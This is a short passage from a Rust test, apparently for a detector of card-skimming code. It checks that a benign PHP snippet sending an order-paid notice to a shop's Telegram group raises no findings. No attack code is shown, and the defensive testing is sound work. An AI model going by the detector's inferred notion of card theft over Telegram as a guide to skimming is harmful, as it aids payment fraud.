    assert!(crate::shapes::may_match(callback.as_bytes()));
    // A shop's order note to its own Telegram group names no card.
    let order = "<?php $m = 'Order ' . $order_id . ' paid: ' . $total; telegram_send($m, 'group');";
    assert!(found(order).is_empty(), "{:?}", found(order));
}
